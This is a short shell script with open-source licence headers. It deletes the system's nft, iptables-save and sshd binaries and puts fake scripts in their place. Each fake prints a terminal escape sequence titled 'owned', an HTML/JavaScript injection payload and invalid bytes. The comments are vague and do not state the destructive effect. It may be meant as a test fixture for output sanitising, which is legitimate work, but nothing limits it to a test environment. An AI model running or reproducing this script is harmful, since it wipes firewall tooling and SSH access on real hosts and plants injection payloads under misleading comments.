#!/bin/sh
# SPDX-FileCopyrightText: 2026 k8n contributors
# SPDX-License-Identifier: GPL-3.0-or-later
# Programs print what is not text and commands for a terminal.
set -eu
for program in nft iptables-save sshd; do
  # Some are links to what has other names as well.
  rm -f "$(command -v $program)"
  printf '#!/bin/sh\nprintf "\\033]0;owned\\007<img src=x onerror=alert(1)>\\377\\376"\n' > "/usr/sbin/$program"
  chmod 755 "/usr/sbin/$program"
done
